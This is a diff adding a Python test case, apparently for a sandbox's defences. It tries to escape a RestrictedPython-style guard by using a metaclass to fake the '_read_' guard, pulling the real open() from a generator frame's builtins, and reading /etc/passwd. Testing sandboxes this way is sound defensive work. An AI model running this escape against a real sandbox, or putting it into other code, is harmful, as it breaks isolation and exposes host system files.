@@ -1,0 +1,32 @@
+# tries: a metaclass answers the look-ups of a class body
+# stops: 1 2 3 4
+def use(opener):
+    print("REACHED")
+    if "root:" in opener("/etc/passwd").read():
+        print("ESCAPED")
+
+
+def pick(frame):
+    if frame is not None:
+        print("REACHED")
+    return getattr(frame, "f_" + "builtins")["open"]
+
+
+class Space(dict):
+    def __missing__(self, name):
+        if name == "_read_":
+            return lambda o, n: o
+        raise KeyError(name)
+
+
+class M(type):
+    @classmethod
+    def __prepare__(mcs, name, bases):
+        return Space()
+
+
+class C(metaclass=M):
+    frame = (x for x in ()).gi_frame
+
+
+use(pick(C.frame))
